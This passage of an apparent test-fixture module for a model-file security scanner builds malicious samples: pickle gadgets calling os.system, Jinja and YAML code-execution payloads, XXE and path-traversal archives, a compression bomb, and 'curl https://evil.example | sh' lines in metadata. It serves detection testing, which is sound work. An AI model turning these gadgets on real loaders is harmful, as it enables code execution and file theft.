"""Attacks: files that would run something when they are loaded the usual way, made here byte by byte; no payload is ever run.

Each does no more than `true` or `print`, if someone did run it.
"""

import base64
import bz2
import gzip
import io
import json
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Sequence
from typing import Any, Final

import numpy as np

CALL: Final = b"cposix\nsystem\n(S'true'\ntR."
CALL2: Final = b"\x80\x02cposix\nsystem\nX\x04\x00\x00\x00true\x85R."
CALL4: Final = b"\x80\x04\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x04true\x94\x85\x94R\x94."
PLAIN: Final = pickle.dumps({"weights": [1.0, 2.0], "name": "net"}, 4)


def named(module: str, name: str, *args: Any, protocol: int = 4) -> bytes:
    """A pickle that calls a global."""
    if protocol < 4:
        return b"".join([b"\x80\x02c", module.encode(), b"\n", name.encode(), b"\n", pickle.dumps(args, 2)[2:-1], b"R."])
    return b"".join([b"\x80\x04", _text(module), _text(name), b"\x93", pickle.dumps(args, 2)[2:-1], b"R."])


def _text(value: str) -> bytes:
    raw = value.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def zipped(members: dict[str, bytes], *, deflate: bool = False) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED if deflate else zipfile.ZIP_STORED) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED if deflate else zipfile.ZIP_STORED)
    return made.getvalue()


def tarred(members: dict[str, bytes]) -> bytes:
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as archive:
        for name, data in members.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(data)
            archive.addfile(entry, io.BytesIO(data))
    return made.getvalue()


def tar_link(name: str, target: str, kind: bytes = tarfile.SYMTYPE) -> bytes:
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as archive:
        entry = tarfile.TarInfo(name)
        entry.type, entry.linkname = kind, target
        archive.addfile(entry)
    return made.getvalue()


def npy(body: bytes) -> bytes:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (-(10 + len(header) + 1) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + body


def plain_npy() -> bytes:
    stream = io.BytesIO()
    np.save(stream, np.arange(3.0))
    return stream.getvalue()


def flagged(flag: int) -> bytes:
    """A zip whose members say that they are encrypted, or are patches."""
    data = bytearray(zipped({"archive/data.pkl": CALL2}))
    central = data.index(b"PK\1\2")
    data[central + 8] |= flag
    data[6] |= flag
    return bytes(data)


def commented(comment: bytes) -> bytes:
    """An ordinary zip with a comment behind it."""
    return zipped({"archive/data.pkl": PLAIN})[:-2] + struct.pack("<H", len(comment)) + comment


def unlisted() -> bytes:
    """A zip whose first member its directory leaves out."""
    archive = zipped({"archive/data.pkl": CALL4, "archive/version": b"3\n"})
    first, end = archive.index(b"PK\1\2"), archive.index(b"PK\5\6")
    directory = archive[archive.index(b"PK\1\2", first + 4) : end]
    return archive[:first] + directory + struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 1, 1, len(directory), first, 0)


def laughing() -> bytes:
    """YAML of ten lines of aliases, each for nine of those before."""
    lines = [f"a{index}: &a{index} [{', '.join([f'*a{index - 1}'] * 9)}]\n" for index in range(1, 10)]
    return ("a0: &a0 [ha, ha]\n" + "".join(lines)).encode()


def edited(find: bytes, put: bytes, *, last: bool = False) -> bytes:
    data = zipped({"archive/data.pkl": CALL2})
    at = data.rindex(find) if last else data.index(find)
    return data[:at] + put + data[at + len(find) :]


def wrong_crc() -> bytes:
    data = zipped({"archive/data.pkl": named("posix", "system", "xrue")})
    return data.replace(b"xrue", b"true")


def safetensors(metadata: dict[str, str]) -> bytes:
    header = json.dumps({"__metadata__": metadata, "w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}).encode()
    return struct.pack("<Q", len(header)) + header + bytes(4)


def gguf(template: str) -> bytes:
    def text(value: str) -> bytes:
        raw = value.encode()
        return struct.pack("<Q", len(raw)) + raw

    entry = text("tokenizer.chat_template") + struct.pack("<I", 8) + text(template)
    return b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + entry


def field(number: int, value: "bytes | int") -> bytes:
    """One field of a protobuf message, shorter than 16 KiB."""
    if isinstance(value, int):
        return bytes([number << 3, value])
    size = bytes([len(value)]) if len(value) < 128 else bytes([len(value) & 127 | 128, len(value) >> 7])
    tag = number << 3 | 2
    return (bytes([tag]) if tag < 128 else bytes([tag & 127 | 128, tag >> 7])) + size + value


def long_field(number: int, value: bytes) -> bytes:
    """One whose number takes two bytes."""
    tag = number << 3 | 2
    return bytes([tag & 127 | 128, tag >> 7, len(value)]) + value


def onnx(node: bytes = b"", tensor: bytes = b"") -> bytes:
    graph = (field(1, node) if node else b"") + (field(5, tensor) if tensor else b"") + field(2, b"g")
    return field(1, 8) + field(2, b"pytorch") + field(7, graph) + field(8, field(2, 17))


def external(location: str) -> bytes:
    return field(1, 1) + field(2, 1) + field(8, b"w") + field(13, field(1, b"location") + field(2, location.encode())) + field(14, 1)


def saved_model(operation: bytes) -> bytes:
    graph = field(1, field(1, b"node") + field(2, operation))
    return field(1, 1) + field(2, field(2, graph))


def hdf5(body: bytes) -> bytes:
    """Bytes that begin as HDF5 0: no library need open it for a scanner to look."""
    return b"\x89HDF\r\n\x1a\n" + bytes([0, 0, 0, 0, 0, 8, 8, 0]) + bytes(80) + body


def external_link() -> bytes:
    value = b"\x00/etc/passwd\x00/data\x00"
    return hdf5(b"\x01\x08\x40\x04link" + struct.pack("<H", len(value)) + value)


def external_data() -> bytes:
    body = b"\x01\0\0\0\x01\0\x01\0" + struct.pack("<Q", 96 + 32) + bytes(16)
    return hdf5(body + b"HEAP" + bytes(28))


def virtual() -> bytes:
    return hdf5(b"\x04\x03" + struct.pack("<QI", 96 + 16, 1) + bytes(2) + b"GCOL" + bytes(28))


def lambda_config() -> dict[str, Any]:
    code = {"class_name": "__lambda__", "config": {"code": "4wEAAAAA", "defaults": None, "closure": None}}
    layer = {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "l", "function": code}, "registered_name": None}
    return {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": [layer]}, "registered_name": None}


def keras(layer: dict[str, Any]) -> bytes:
    config = {"module": "keras", "class_name": "Sequential", "config": {"layers": [layer]}, "registered_name": None}
    return zipped({"metadata.json": b"{}", "config.json": json.dumps(config).encode()})


def mxnet(attributes: dict[str, str]) -> bytes:
    """A graph of one convolution, and an operator with these attributes."""
    op = "Custom" if "op_type" in attributes else "Convolution"
    return json.dumps(
        {
            "nodes": [
                {"op": "null", "name": "data", "inputs": []},
                {"op": "Convolution", "name": "conv", "attrs": {"kernel": "(3, 3)"}, "inputs": [[0, 0, 0]]},
                {"op": op, "name": "last", "attrs": attributes, "inputs": [[1, 0, 0]]},
            ],
            "arg_nodes": [0],
        }
    ).encode()


def joblib_objects(inner: bytes) -> bytes:
    """A pickle with an array of objects as joblib writes it: another pickle right behind the wrapper."""
    wrapper = named("joblib.numpy_pickle", "NumpyArrayWrapper")[:-1]
    dtype = named("numpy", "dtype", "O8", False, True)[2:-1] + pickle.dumps((3, "|", None, None, None, -1, -1, 63), 2)[2:-1] + b"b"
    state = b"}(" + _text("shape") + pickle.dumps((1,), 2)[2:-1] + _text("dtype") + dtype + b"u"
    return wrapper + state + b"b" + inner + b"."


def legacy(*pickles: bytes) -> bytes:
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2) + pickle.dumps({"little_endian": True}, 2)
    return magic + b"".join(pickles)


DANGEROUS: Final[dict[str, tuple[str, Callable[[], bytes]]]] = {
    "a name of Python's under a module of Keras": (
        "m.keras",
        lambda: keras({"module": "keras.ops", "class_name": "function", "config": "exec", "registered_name": "function"}),
    ),
    "a library that a graph of MXNet names": ("net-symbol.json", lambda: mxnet({"library": "../libevil.so"})),
    "a frame that ends within an opcode": ("m.pkl", lambda: b"\x80\x05\x95" + struct.pack("<Q", 3) + b"\x8c\x14" + b"A" * 20 + b"."),
    "a pickle in an archive's comment": ("m.zip", lambda: commented(CALL)),
    "a frame in a frame": ("m.pkl", lambda: b"\x80\x05\x95" + struct.pack("<Q", 13) + b"N\x95" + struct.pack("<Q", 2) + b"00N."),
    "a frame that goes on behind the end": ("m.pkl", lambda: b"\x80\x05\x95" + struct.pack("<Q", 8) + b"N." + b"\x80\x05]...."),
    "protocol 0": ("a.pkl", lambda: CALL),
    "protocol 2": ("a.pkl", lambda: CALL2),
    "protocol 4": ("a.pkl", lambda: CALL4),
    "another name": ("notes.txt", lambda: CALL4),
    "no name at all": ("weights", lambda: CALL),
    "INST": ("a.pkl", lambda: b"(S'true'\niposix\nsystem\n."),
    "OBJ": ("a.pkl", lambda: b"\x80\x02(cposix\nsystem\nX\x04\x00\x00\x00trueo."),
    "NEWOBJ": ("a.pkl", lambda: b"\x80\x02csubprocess\nPopen\nX\x04\x00\x00\x00true\x85\x81."),
    "NEWOBJ_EX": ("a.pkl", lambda: b"\x80\x04\x8c\x0asubprocess\x8c\x05Popen\x93\x8c\x04true\x85}\x92."),
    "only named": ("a.pkl", lambda: b"\x80\x02cposix\nsystem\n."),
    "breaks right after the call": ("a.pkl", lambda: CALL4[:-1] + b"\xff\xff"),
    "cut short after the call": ("a.pkl", lambda: CALL4[:-1]),
    "hidden behind BUILD": ("a.pkl", lambda: CALL4[:-1] + b"}b."),
    "popped": ("a.pkl", lambda: b"\x80\x02" + CALL2[2:-1] + b"0}."),
    "behind a pickle": ("a.pkl", lambda: PLAIN + CALL4),
    "behind STOP without a header": ("a.pkl", lambda: PLAIN + CALL),
    "behind junk": ("a.bin", lambda: b"\xff\x00junk" * 40 + CALL4),
    "behind a broken pickle": ("a.pkl", lambda: PLAIN[:-1] + b"\xff" * 8 + CALL4),
    "names from the memo": ("a.pkl", lambda: b"\x80\x04\x8c\x05posix\x940\x8c\x06system\x940h\x00h\x01\x93\x8c\x04true\x85R."),
    "a memo of large numbers": (
        "a.pkl",
        lambda: b"\x80\x02X\x05\x00\x00\x00posixr\xff\xff\xff\x000X\x06\x00\x00\x00systemq\x010j\xff\xff\xff\x00h\x01\x93)R.",
    ),
    "a name that a call makes": (
        "a.pkl",
        lambda: b"\x80\x04" + named("builtins", "str", "posix")[2:-1] + b"\x8c\x06system\x93\x8c\x04true\x85R.",
    ),
    "the extension registry": ("a.pkl", lambda: b"\x80\x02\x82\x01)R."),
    "getattr of a class": (
        "a.pkl",
        lambda: b"\x80\x04\x8c\x08builtins\x8c\x07getattr\x93\x8c\x05torch\x8c\x06Tensor\x93\x8c\x0b__globals__\x86R.",
    ),
    "getattr handed on": ("a.pkl", lambda: b"\x80\x04\x8c\x09functools\x8c\x07partial\x93\x8c\x08builtins\x8c\x07getattr\x93\x85R."),
    "an import by numpy": ("a.pkl", lambda: named("numpy.core", "_ufunc_reconstruct", "os", "system")),
    "a dotted name": ("a.pkl", lambda: named("torch.serialization", "os.system", "true")),
    "a module's own builtins": ("a.pkl", lambda: named("numpy", "__builtins__")),
    "memmap called": ("a.pkl", lambda: named("numpy", "memmap", "f", "u1", "w+")),
    "bytes that torch would load": (
        "a.pkl",
        lambda: b"\x80\x04\x8c\x0dtorch.storage\x8c\x10_load_from_bytes\x93B" + struct.pack("<I", len(CALL4)) + CALL4 + b"\x85R.",
    ),
    "bytes that torch would load, written as text": (
        "a.pkl",
        lambda: pickle.dumps({"x": CALL4}, 0),
    ),
    "a pickle in bytes": ("a.pkl", lambda: pickle.dumps({"x": CALL4 + b" " * 8}, 4)),
    "a pickle in base64": ("a.pkl", lambda: pickle.dumps({"x": base64.b64encode(CALL4).decode()}, 4)),
    "a text pickle in base64": ("a.pkl", lambda: pickle.dumps(["x", "data:" + base64.b64encode(CALL).decode()], 2)),
    "a pickle in hex": ("a.pkl", lambda: pickle.dumps([CALL4.hex()], 4)),
    "a pickle in JSON": ("config.json", lambda: json.dumps({"state": base64.b64encode(CALL4).decode()}).encode()),
    "a pickle in metadata": ("m.safetensors", lambda: safetensors({"state": base64.b64encode(CALL4).decode()})),
    "zip": ("m.pt", lambda: zipped({"archive/data.pkl": CALL2, "archive/version": b"3\n"})),
    "zip with another name": ("picture.png", lambda: zipped({"model/readme.txt": CALL4}, deflate=True)),
    "zip in zip in zip": ("m.zip", lambda: zipped({"b.dat": zipped({"c": zipped({"d": CALL4})}, deflate=True)})),
    "zip flagged as encrypted": ("m.pt", lambda: flagged(1)),
    "zip flagged as strongly encrypted": ("m.pt", lambda: flagged(0x40)),
    "zip with a wrong CRC": ("m.pt", wrong_crc),
    "zip whose names differ": ("m.pt", lambda: edited(b"data.pkl", b"date.pkl")),
    "zip with another method": ("m.pt", lambda: edited(b"PK\x03\x04\x14\0\0\0\0\0", b"PK\x03\x04\x14\0\0\0\x08\0")),
    "zip without a directory": ("m.pt", lambda: zipped({"archive/data.pkl": CALL2})[:-60]),
    "zip behind a pickle": ("m.pt", lambda: CALL4 + zipped({"a": b"b"})),
    "two zips": ("m.pt", lambda: zipped({"archive/data.pkl": CALL2}) + zipped({"archive/data.pkl": PLAIN})),
    "a storage that is a pickle": ("m.pt", lambda: zipped({"archive/data.pkl": PLAIN, "archive/data/0": CALL4})),
    "tar": ("m.tar", lambda: tarred({"model/a": CALL4})),
    "tar in gzip": ("m.nemo", lambda: gzip.compress(tarred({"model.ckpt": zipped({"archive/data.pkl": CALL2})}))),
    "gzip": ("m.pkl", lambda: gzip.compress(CALL4)),
    "zlib": ("m.pkl", lambda: zlib.compress(CALL4)),
    "bzip2": ("m.joblib", lambda: bz2.compress(CALL4)),
    "xz": ("m.joblib", lambda: lzma.compress(CALL4)),
    "lzma": ("m.joblib", lambda: lzma.compress(CALL4, lzma.FORMAT_ALONE)),
    "npy": ("a.npy", lambda: npy(CALL4)),
    "a pickle behind an array": ("a.npy", lambda: plain_npy() + CALL2),
    "npz": ("a.npz", lambda: zipped({"a.npy": npy(CALL4)}, deflate=True)),
    "joblib's object array": ("m.joblib", lambda: joblib_objects(CALL4)),
    "PyTorch's legacy stream": ("m.pth", lambda: legacy(CALL2)),
    "a magic number that is computed": ("m.pth", lambda: named("builtins", "eval", "0x1950A86A20F9469CFC6C", protocol=2) + PLAIN),
    "a path out of a zip": ("m.zip", lambda: zipped({"../../evil.txt": b"x"})),
    "an absolute path in a tar": ("m.tar", lambda: tarred({"/etc/evil": b"x"})),
    "a link out of a tar": ("m.tar", lambda: tar_link("model", "../../etc/passwd")),
    "a hard link out of a tar": ("m.tar", lambda: tar_link("model", "/etc/passwd", tarfile.LNKTYPE)),
    "a chat template": (
        "tokenizer_config.json",
        lambda: json.dumps({"chat_template": "{{ ''.__class__.__mro__[1].__subclasses__() }}"}).encode(),
    ),
    "a chat template in parts": ("chat_template.jinja", lambda: b"{{ x|attr('__cla'~'ss__') }}"),
    "a chat template with braces in a text": ("chat_template.jinja", lambda: b"{{ '}}' ~ (x|attr(y)) }}"),
    "a chat template behind a comment": ("chat_template.jinja", lambda: b"{# {{ ' #}{{ x|attr(y) }}"),
    "a chat template behind a raw part": ("chat_template.jinja", lambda: b"{% raw %}{{ ' {% endraw %}{{ x|attr(y) }}"),
    "a chat template that multiplies": ("chat_template.jinja", lambda: b"{{ x['_'*2 + 'class' + '_'*2] }}"),
    "a chat template that joins": ("chat_template.jinja", lambda: b"{{ x[['__cl', 'ass__']|join] }}"),
    "a chat template that fills in": ("chat_template.jinja", lambda: b"{{ x['__%s__'|format('class')] }}"),
    "a chat template in escapes": ("chat_template.jinja", lambda: b"{{ x['\\x5f\\x5fglobals\\x5f\\x5f'] }}"),
    "a chat template in a list": (
        "tokenizer_config.json",
        lambda: json.dumps({"chat_template": [{"name": "a", "template": "{{ lipsum.__globals__.os }}"}]}).encode(),
    ),
    "a chat template in GGUF": ("m.gguf", lambda: gguf("{{ cycler.__init__.__globals__.os.popen('true').read() }}")),
    "a chat template in a cut GGUF": ("m.gguf", lambda: gguf("{{ cycler.__init__.__globals__ }}" + "x" * 100)[:-50]),
    "a module that Keras imports": ("m.keras", lambda: keras({"module": "keras.layers.os", "class_name": "system", "config": {}})),
    "a method of a class of Keras": (
        "m.keras",
        lambda: keras({"module": "keras.layers", "class_name": "Dense.__init__", "config": {}}),
    ),
    "Keras's own loader": (
        "m.keras",
        lambda: keras({"module": "keras.src.legacy.saving.legacy_h5_format", "class_name": "load_model_from_hdf5", "config": {}}),
    ),
    "Keras Lambda": ("config.json", lambda: json.dumps(lambda_config()).encode()),
    "Keras Lambda in an archive": ("m.keras", lambda: zipped({"config.json": json.dumps(lambda_config()).encode()})),
    "Keras Lambda in HDF5": ("m.h5", lambda: hdf5(json.dumps(lambda_config()).encode() + b"\0")),
    "Keras class of another module": ("m.keras", lambda: keras({"module": "os", "class_name": "function", "config": "system"})),
    "Keras utilities": ("m.keras", lambda: keras({"module": "keras.utils", "class_name": "get_file", "config": {}})),
    "Keras TFSMLayer": ("m.keras", lambda: keras({"module": "keras.layers", "class_name": "TFSMLayer", "config": {"filepath": "x"}})),
    "Keras TorchModuleWrapper": ("m.keras", lambda: keras({"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {}})),
    "HDF5 external link": ("m.h5", external_link),
    "HDF5 external data": ("m.h5", external_data),
    "ONNX data outside": ("m.onnx", lambda: onnx(tensor=external("../../etc/passwd"))),
    "ONNX absolute data": ("m.onnx", lambda: onnx(tensor=external("/etc/passwd"))),
    "ONNX PyOp": ("m.onnx", lambda: onnx(node=field(4, b"PyOp") + field(7, b"ai.onnx.contrib"))),
    "SavedModel ReadFile": ("saved_model.pb", lambda: saved_model(b"ReadFile")),
    "SavedModel WriteFile": ("saved_model.pb", lambda: saved_model(b"WriteFile")),
    "SavedModel PyFunc": ("saved_model.pb", lambda: saved_model(b"EagerPyFunc")),
    "a library of Linux": ("m.pt2", lambda: zipped({"m/data/aotinductor/model/x.so": b"\x7fELF" + bytes(60)})),
    "a llamafile": ("m.llamafile", lambda: b"MZqFpD='\n" + bytes(100)),
    "TorchScript that opens a file": (
        "m.pt",
        lambda: zipped({"m/data.pkl": PLAIN, "m/constants.pkl": PLAIN, "m/code/__torch__.py": b"x = torch.from_file('/etc/passwd')"}),
    ),
    "a YAML tag": ("model.yaml", lambda: b"model: !!python/object/apply:os.system ['true']\n"),
    "a YAML target": ("model.yaml", lambda: b"model:\n  _target_: os.system\n  command: 'true'\n"),
    "an XML entity": ("model.xml", lambda: b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><net/>'),
    "an index that leads out": ("model.safetensors.index.json", lambda: b'{"weight_map": {"w": "../../secret.safetensors"}}'),
    "a TensorStore specification": ("spec.json", lambda: b'{"driver": "zarr", "kvstore": {"driver": "file", "path": "/etc/"}}'),
    "skops type": (
        "m.skops",
        lambda: zipped({"schema.json": json.dumps({"__class__": "system", "__module__": "posix", "__loader__": "ObjectNode"}).encode()}),
    ),
    "a compression bomb": ("m.gz", lambda: gzip.compress(bytes(300 << 20), 1)),
    "Keras function of a module": ("m.keras", lambda: keras({"class_name": "Dense", "config": {"units": 1, "fn_module": "subprocess"}})),
    "Keras guard taken away": (
        "m.keras",
        lambda: keras({"class_name": "Dense", "config": {"x": {"y": "keras.config.enable_unsafe_deserialization"}}}),
    ),
    "Keras Lambda in source": ("m.h5", lambda: hdf5(b'{"class_name": "Lambda", "config": {"function": "lambda x: eval(x)"}}\0')),
    "a program behind a pickle": ("m.bin", lambda: PLAIN + b"\x7fELF\x02\x01\x01" + bytes(60)),
    "a Core ML model in another file": ("m.mlmodel", lambda: field(1, 1) + long_field(556, field(1, field(1, field(1, b"../x.mlmodel"))))),
    "an image manifest": ("image.manifest", lambda: b'{"layers": ["../evil.tar.gz"]}'),
    "a member that a directory leaves out": ("m.pt", unlisted),
    "a YAML tag behind a handle": ("model.yaml", lambda: b"%TAG !p! tag:yaml.org,2002:python/\n---\n!p!object/apply:os.system ['true']\n"),
    "a YAML tag in escapes": ("model.yaml", lambda: b"!!pyth%6Fn/object/apply:os.system ['true']\n"),
    "a YAML tag in UTF-16": ("model.yaml", lambda: "x: !!python/object/apply:os.system ['true']\n".encode("utf-16")),
    "a YAML target in braces": ("m.yaml", lambda: b"model: {lr: 1, _target_: os.system, command: 'true'}\n"),
    "a YAML target that leads out of its package": ("m.yaml", lambda: b"model:\n  _target_: diffusers.utils.shutil.move\n"),
    "a YAML target in escapes": ("m.yaml", lambda: b'model:\n  "_t\\x61rget_": os.system\n'),
    "a YAML target by an alias": ("m.yaml", lambda: b"x: &x os.system\nmodel:\n  _target_: *x\n"),
    "an XML entity in UTF-16": ("m.xml", lambda: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'.encode("utf-16")),
    "Keras Lambda in UTF-16": ("m.keras", lambda: zipped({"config.json": json.dumps(lambda_config()).encode("utf-16-le")})),
    "a chat template of characters": ("chat_template.jinja", lambda: b"{{ x['%c%cclass%c%c'|format(95, 95, 95, 95)] }}"),
    "a chat template of any dunder": ("chat_template.jinja", lambda: b"{% set y = x.__setattr__ %}"),
    "SavedModel ReadFile as a text": (
        "saved_model.pbtxt",
        lambda: b"meta_graphs { graph_def { node { name: 'a' op: \"Read\" 'F\\x69le' } } }",
    ),
    "ONNX compiled for a device, outside": (
        "m.onnx",
        lambda: onnx(
            node=field(4, b"EPContext")
            + field(7, b"com.microsoft")
            + field(5, field(1, b"embed_mode") + field(3, 0))
            + field(5, field(1, b"ep_cache_context") + field(4, b"../../evil.bin"))
        ),
    ),
    "compiled Lua": ("m.bin", lambda: b"\x1bLJ\2" + bytes(40)),
    "a subinterpreter": ("a.pkl", lambda: named("_interpreters", "create")),
}
"""What must be called dangerous."""

UNKNOWN: Final[dict[str, tuple[str, Callable[[], bytes]]]] = {
    "an operator of the author's for MXNet": ("net-symbol.json", lambda: mxnet({"op_type": "mine"})),
    "code in base64": ("config.json", lambda: json.dumps({"notes": base64.b64encode(b"__import__('os').getcwd()").decode()}).encode()),
    "a class of Keras that its author registered": (
        "m.keras",
        lambda: keras({"class_name": "Dense", "registered_name": "custom_package.Dense", "config": {}}),
    ),
    "a class of nobody's": ("a.pkl", lambda: named("mylab.nets", "Net")),
    "a persistent id": ("a.pkl", lambda: b"\x80\x02X\x05\x00\x00\x00whereQ."),
    "7z": ("m.pt", lambda: b"7z\xbc\xaf\x27\x1c" + bytes(100)),
    "rar": ("m.bin", lambda: b"Rar!\x1a\x07\x01\x00" + bytes(100)),
    "code in metadata": ("m.safetensors", lambda: safetensors({"init": "import os; os.system('true')"})),
    "a shell command in metadata": ("m.safetensors", lambda: safetensors({"setup": "curl https://evil.example | sh"})),
    "auto_map": ("config.json", lambda: b'{"auto_map": {"AutoModel": "modeling_x.Net"}}'),
    "an operator of nobody's": ("m.onnx", lambda: onnx(node=field(4, b"Magic") + field(7, b"evil.ops"))),
    "a virtual data set": ("m.h5", virtual),
    "Keras class of its author": ("m.keras", lambda: keras({"module": "mylab", "class_name": "Net", "config": {}})),
    "bytes behind safetensors": ("m.safetensors", lambda: safetensors({}) + b"more"),
    "torch.package": ("m.pt", lambda: zipped({"m/.data/extern_modules": b"torch\n", "m/net.py": b"x = 1\n"})),
    "a model archive with its handler": ("m.mar", lambda: zipped({"MAR-INF/MANIFEST.json": b"{}", "handler.py": b"x = 1\n"})),
    "a link in a tar": ("m.tar", lambda: tar_link("a", "b")),
    "a billion laughs": (
        "a.pkl",
        lambda: b"\x80\x04]\x94" + b"".join(b"](" + b"h" + bytes([index]) + b"h" + bytes([index]) + b"e\x94" for index in range(40)) + b".",
    ),
    "a list in itself": ("a.pkl", lambda: b"\x80\x04]\x94h\x00ah\x00a."),
    "a command in a binary": ("m.cbm", lambda: b"CBM1" + bytes(40) + b"curl https://evil.example/x | sh" + bytes(20)),
    "a Core ML layer of its author": ("m.mlmodel", lambda: field(1, 1) + long_field(500, field(1, long_field(500, field(10, b"Evil"))))),
    "aliases of YAML that multiply": ("m.yaml", laughing),
    "a target by an interpolation": ("m.yaml", lambda: b"model:\n  _target_: ${elsewhere}\n"),
    "a target of nobody's": ("m.yaml", lambda: b"model:\n  _target_: custom.evaluate\n"),
    "a method of skops": (
        "m.skops",
        lambda: zipped({"schema.json": b'{"__class__": "method", "__module__": "builtins", "__loader__": "MethodNode"}'}),
    ),
}
"""What nobody here can vouch for."""

UNREAD: Final[dict[str, tuple[str, Callable[[], bytes]]]] = {
    "a cut pickle": ("a.pkl", lambda: pickle.dumps({"a": list(range(200))}, 4)[:-50]),
    "no pickle": ("a.pkl", lambda: b"\xff" * 100),
    "a cut zip": ("m.pt", lambda: zipped({"archive/data.pkl": PLAIN, "archive/version": b"3\n"})[:-20]),
    "a cut gzip": ("m.pkl.gz", lambda: gzip.compress(PLAIN * 100)[:-20]),
    "a cut tar": ("m.tar", lambda: tarred({"a": b"x" * 2000})[:1500]),
    "a cut safetensors": ("m.safetensors", lambda: safetensors({})[:-1]),
    "a safetensors whose offsets lie": (
        "m.safetensors",
        lambda: struct.pack("<Q", 64) + b'{"t": {"dtype": "F32", "shape": [2], "data_offsets": [0, 4]}}'.ljust(64) + bytes(4),
    ),
    "a gzip of a few bytes": ("m.gz", lambda: gzip.compress(PLAIN)[:9]),
    "a cut GGUF": ("m.gguf", lambda: gguf("{{ messages }}")[:-3]),
    "a cut ONNX": ("m.onnx", lambda: onnx(node=field(4, b"Add"))[:-3]),
    "a pointer of Git LFS": ("m.pt", lambda: b"version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 1\n"),
    "a web page": ("m.pt", lambda: b"\n<!DOCTYPE html><html>Not found</html>"),
    "nothing": ("m.pt", lambda: b""),
    "an answer of a server": ("m.safetensors", lambda: b'{"error": "Repository not found"}'),
    "bad JSON": ("config.json", lambda: b'{"a": '),
    "an archive in 10 archives": ("m.zip", lambda: _nested(10)),
    "no HDF5": ("m.h5", lambda: b"not HDF5 at all"),
    "a notebook": ("m.ipynb", lambda: b'{"cells": [{"cell_type": "code", "source": ["1"]}]}'),
    "data of R": ("m.rds", lambda: gzip.compress(b"X\n\0\0\0\3" + bytes(40))),
    "data of R by another name": ("weights.bin", lambda: b"RDX3\nX\n" + bytes(40)),
    "an object of Torch7": ("m.dat", lambda: struct.pack("<3i", 4, 1, 3) + b"V 1" + bytes(40)),
    "bytes behind MessagePack": ("m.msgpack", lambda: b"\x81\xa1w\x01" + b"garbage"),
    "no MessagePack": ("m.msgpack", lambda: b"\xc1" * 20),
    "no parameters of Paddle": ("m.pdparams", lambda: b"\xf3" * 100),
    "a JSON with zeros": ("config.json", lambda: b'{"a": 1}\0\0'),
    "no archive": ("m.tar", lambda: b"not a tar"),
}
"""What could not be read to its end: never clean."""


def _nested(depth: int) -> bytes:
    data = PLAIN
    for _ in range(depth):
        data = zipped({"x": data})
    return data


CHAT: Final = (
    "{% for message in messages %}"
    "{% if loop.first and messages[0]['role'] != 'system' %}{{ '<|im_start|>system\\nHi<|im_end|>' }}{% endif %}"
    "{{'<|im_start|>' + message['role'] + '\\n' + message['content'] | trim + '<|im_end|>' + '\\n'}}{% endfor %}"
    "{% if tools is defined %}{{ tools | tojson(indent=4) }}{% endif %}{%- set ns = namespace(system='', import_date='') %}"
    "{{ raise_exception('Conversation roles must alternate') }}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
)

HARMLESS: Final[dict[str, tuple[str, Callable[[], bytes]]]] = {
    "a dict": ("a.pkl", lambda: PLAIN),
    "protocol 0": ("a.pkl", lambda: pickle.dumps({"a": [1, 2.5, "x", None, True, b"bytes"], "b": {1, 2}}, 0)),
    "a polynomial": ("a.pkl", lambda: pickle.dumps(np.poly1d([1, 2]))),
    "a template that compares": ("chat_template.jinja", lambda: b"{% if x == '_' %}{{ '_' + x|replace('_', ' ') }}{% endif %}"),
    "several pickles": ("a.pkl", lambda: PLAIN * 3),
    "an ordinary chat template": ("tokenizer_config.json", lambda: json.dumps({"chat_template": CHAT}).encode()),
    "an ordinary chat template in GGUF": ("m.gguf", lambda: gguf(CHAT)),
    "an ordinary chat template by itself": ("chat_template.jinja", lambda: CHAT.encode()),
    "metadata": ("m.safetensors", lambda: safetensors({"format": "pt", "modelspec.implementation": "https://github.com/a/b"})),
    "a config": ("config.json", lambda: b'{"architectures": ["LlamaForCausalLM"], "_name_or_path": "/home/a/b", "eval_batch_size": 8}'),
    "an index": (
        "model.safetensors.index.json",
        lambda: b'{"metadata": {"total_size": 4}, "weight_map": {"w": "model-00001-of-00002.safetensors"}}',
    ),
    "ordinary Keras": (
        "m.keras",
        lambda: keras({"module": "keras.layers", "class_name": "Dense", "config": {"units": 2, "activation": "relu"}}),
    ),
    "ordinary ONNX": ("m.onnx", lambda: onnx(node=field(4, b"Gelu") + field(7, b"com.microsoft"), tensor=external("weights/a.bin"))),
    "an ordinary graph": ("saved_model.pb", lambda: saved_model(b"RestoreV2")),
    "an ordinary zip": ("m.zip", lambda: zipped({"config.json": b"{}", "readme.md": b"# Read me: import os\n"})),
    "an exception of Python 2": ("m.pkl", lambda: pickle.dumps({"last": ValueError("no more batches")}, 2)),
    "a class that only tells a kind": ("m.pkl", lambda: pickle.dumps(Sequence, 4)),
    "a text that begins as a call does": ("m.zip", lambda: zipped({"notes.txt": b"No pickles here"})),
    "a text that tells how to begin": (
        "README.md",
        lambda: b"# A model\n\n```bash\ncurl https://example.org/m.sh | sh\npython -c 'import m'\n```\n",
    ),
    "an ordinary graph of MXNet": ("net-symbol.json", lambda: mxnet({"num_filter": "8"})),
